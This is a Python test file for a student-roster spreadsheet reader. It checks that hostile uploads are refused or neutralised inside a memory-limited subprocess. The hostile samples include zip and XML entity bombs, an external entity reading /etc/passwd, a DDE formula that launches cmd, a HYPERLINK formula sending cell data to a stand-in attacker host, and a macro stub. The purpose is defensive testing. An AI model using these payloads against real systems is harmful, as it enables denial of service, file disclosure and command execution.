"""Files that would harm: each is refused in seconds by a process that may hold no more than a gigabyte."""

import io
import json
import struct
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
import xlsxwriter
import xlwt

pytestmark = pytest.mark.apart

ROOT = Path(__file__).resolve().parents[3]
READ = """
import json, resource, sys
resource.setrlimit(resource.RLIMIT_AS, (1_000_000_000, 1_000_000_000))
from rosters.files.reading import read_sheets
from rosters.files.errors import UnreadableFile
try:
    print(json.dumps([[sheet.name, [[str(c) for c in row] for row in sheet.rows[:20]]] for sheet in read_sheets(sys.argv[1], sys.stdin.buffer.read())]))
except UnreadableFile as error:
    print(json.dumps(str(error)))
"""


def read_apart(name, content):
    """What reading the file gives, in a process of bounded memory and time: its sheets, or the refusal."""
    done = subprocess.run(
        [sys.executable, "-c", READ, name], input=content, capture_output=True, cwd=ROOT, timeout=10, check=False
    )
    assert done.returncode == 0, done.stderr.decode()[-500:]
    return json.loads(done.stdout)


def workbook(*rows, name="DS"):
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        sheet = book.add_worksheet(name)
        for number, row in enumerate(rows):
            sheet.write_row(number, 0, row)
    return out.getvalue()


ROSTER = workbook(["Mã HS", "Họ và tên"], ["HS1", "Lê Văn Tám"])


def changed(content, name, change):
    """The archive with one of its files changed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            data = old.read(entry)
            new.writestr(entry.filename, change(data) if entry.filename == name else data)
    return out.getvalue()


def ods(body):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr(
            "META-INF/manifest.xml",
            '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
        )
        archive.writestr(
            "content.xml",
            '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
            ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
            ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
            f'<table:table table:name="DS">{body}</table:table></office:spreadsheet></office:body></office:document-content>',
        )
    return out.getvalue()


def cell(text, repeated=1):
    return (
        f'<table:table-cell office:value-type="string" table:number-columns-repeated="{repeated}">'
        f"<text:p>{text}</text:p></table:table-cell>"
    )


def test_a_zip_bomb_is_refused_before_it_is_unpacked():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * (301 * 1024 * 1024))
    assert "giải nén" in read_apart("ds.xlsx", out.getvalue())


def test_an_archive_that_lies_about_its_size_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (300 * 1024 * 1024))
    content = out.getvalue().replace(struct.pack("<I", 300 * 1024 * 1024), struct.pack("<I", 1000))
    assert isinstance(read_apart("ds.xlsx", content), str)


def test_an_archive_of_very_many_files_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number in range(6000):
            archive.writestr(f"{number}.xml", b"")
    assert "giải nén" in read_apart("ds.xlsx", out.getvalue())


def tens(number):
    return 10 * f"&a{number};"


@pytest.mark.parametrize("file", ["xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"])
def test_a_bomb_of_xml_entities_is_refused(file):
    entities = "".join(f'<!ENTITY a{n} "{tens(n - 1)}">' for n in range(1, 12))
    bomb = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">{entities}]><x>&a11;</x>'.encode()
    assert "DOCTYPE" in read_apart("ds.xlsx", changed(ROSTER, file, lambda _data: bomb))


def test_an_external_entity_is_refused_and_read_nowhere():
    bomb = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>'
    assert "DOCTYPE" in read_apart("ds.xlsx", changed(ROSTER, "xl/worksheets/sheet1.xml", lambda _data: bomb))


def test_five_million_empty_rows_are_refused():
    def stretch(data):
        return data.replace(b"</sheetData>", b'<row r="5000000"><c r="A5000000"><v>1</v></c></row></sheetData>')

    assert "5000000" in read_apart("ds.xlsx", changed(ROSTER, "xl/worksheets/sheet1.xml", stretch))


def test_five_million_rows_that_say_nothing_of_their_number_are_refused():
    rows = b"<row/>" * 5_000_000
    content = changed(ROSTER, "xl/worksheets/sheet1.xml", lambda data: data.replace(b"</sheetData>", rows + b"</sheetData>"))
    [[_name, read]] = read_apart("ds.xlsx", content)
    assert read[1] == ["HS1", "Lê Văn Tám"]


def test_a_single_cell_far_out_is_refused():
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        sheet = book.add_worksheet()
        sheet.write(0, 0, "Họ và tên")
        sheet.write(99_999, 16_383, "x")
    assert "rất xa" in read_apart("ds.xlsx", out.getvalue())


def test_a_cell_far_out_in_the_old_format_is_refused():
    book = xlwt.Workbook()
    sheet = book.add_sheet("DS")
    sheet.write(0, 0, "Họ và tên")
    sheet.write(65_535, 255, "x")
    out = io.BytesIO()
    book.save(out)
    assert "rất xa" in read_apart("ds.xls", out.getvalue())


def row(cells, repeated=1):
    return f'<table:table-row table:number-rows-repeated="{repeated}">{cells}</table:table-row>'


@pytest.mark.parametrize(
    "body",
    [row(cell("x"), 5_000_000), row(cell("x", 900_000_000)), row(cell("x", 1000), 100_000)],
    ids=["rows", "cells", "both"],
)
def test_an_ods_file_that_unfolds_without_end_is_refused(body):
    assert "rất xa" in read_apart("ds.ods", ods(body))


def test_empty_rows_that_ods_files_end_with_are_no_bomb():
    body = (
        f"<table:table-row>{cell('Họ và tên')}{cell('Lớp')}</table:table-row><table:table-row>{cell('Lê Văn Tám')}{cell('10A1')}"
        '</table:table-row><table:table-row table:number-rows-repeated="1048574"><table:table-cell'
        ' table:number-columns-repeated="16384"/></table:table-row>'
    )
    [[_name, rows]] = read_apart("ds.ods", ods(body))
    assert rows[:2] == [["Họ và tên", "Lớp"], ["Lê Văn Tám", "10A1"]]


def test_formulas_are_never_executed_and_links_never_followed():
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, ["Mã HS", "Họ và tên"])
        sheet.write_formula(1, 0, '=HYPERLINK("http://ke-xau.example/"&B2,"HS1")', None, "HS1")
        sheet.write_formula(1, 1, "=cmd|' /C calc'!A0", None, "Lê Văn Tám")
    [[_name, rows]] = read_apart("ds.xlsx", out.getvalue())
    assert rows[1] == ["HS1", "Lê Văn Tám"]


def test_macros_are_not_run_and_do_not_keep_a_roster_from_being_read():
    content = changed(ROSTER, "docProps/app.xml", lambda data: data)
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 Sub Auto_Open() Shell(calc) End Sub")
    [[_name, rows]] = read_apart("ds.xlsm", out.getvalue())
    assert rows[1] == ["HS1", "Lê Văn Tám"]


@pytest.mark.parametrize("length", [100, 1000, 3000, -30])
def test_a_truncated_archive_is_refused(length):
    assert "hỏng" in read_apart("ds.xlsx", ROSTER[:length])


def test_an_archive_with_a_password_is_refused():
    def encrypted(data):
        data = bytearray(data)
        for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            start = -1
            while (start := data.find(mark, start + 1)) >= 0:
                data[start + place] |= 1
        return bytes(data)

    assert "mật khẩu" in read_apart("ds.xlsx", encrypted(ROSTER))


def test_an_excel_file_with_a_password_is_refused():
    """Excel locks a workbook into a compound file with a stream called EncryptedPackage."""
    refusal = read_apart("ds.xlsx", compound_file("EncryptedPackage"))
    assert "mật khẩu" in refusal or "hỏng" in refusal


def compound_file(stream):
    """The smallest compound file: a header, one sector of FAT, one of directory, eight of data."""
    free, end, fat_sector = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    header = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    header += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0) + struct.pack("<I", 0) + struct.pack("<I", free) * 108
    fat = [fat_sector, end, *range(3, 10), end]
    fat_bytes = struct.pack("<128I", *(fat + [free] * (128 - len(fat))))

    def entry(name, kind, start, size, child=free):
        raw = name.encode("utf-16-le")
        return (
            raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw) + 2, kind, 1) + struct.pack("<III", free, free, child)
            + bytes(16) + struct.pack("<I", 0) + bytes(16) + struct.pack("<IQ", start, size)
        )  # fmt: skip

    directory = entry("Root Entry", 5, end, 0, 1) + entry(stream, 2, 2, 4096) + bytes(256)
    return header + fat_bytes + directory + b"x" * 4096


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("ds.csv", ROSTER),
        ("ds.xls", ROSTER),
        ("ds.xlsx", "Mã HS;Họ và tên\nHS1;Lê Văn Tám\n".encode()),
        (
            "ds.xls",
            "<html><table><tr><th>Mã HS</th><th>Họ và tên</th></tr><tr><td>HS1<td>Lê&nbsp;Văn <b>Tám</b></table>".encode(),
        ),
    ],
)
def test_a_wrong_ending_keeps_no_readable_file_from_being_read(name, content):
    [[_name, rows]] = read_apart(name, content)
    assert rows[:2] == [["Mã HS", "Họ và tên"], ["HS1", "Lê Văn Tám"]]


@pytest.mark.parametrize(
    ("name", "content"), [("ds.xlsx", b"%PDF-1.4 khong phai"), ("ds.xlsx", b"\x89PNG\r\n\x1a\n\0\0"), ("ds.csv", bytes(5000))]
)
def test_what_is_no_table_is_refused(name, content):
    assert isinstance(read_apart(name, content), str)


def test_a_table_in_html_without_end_is_refused():
    content = b"<table>" + b"<tr><td colspan=100>x" * 200_000
    assert "rất xa" in read_apart("ds.xls", content)
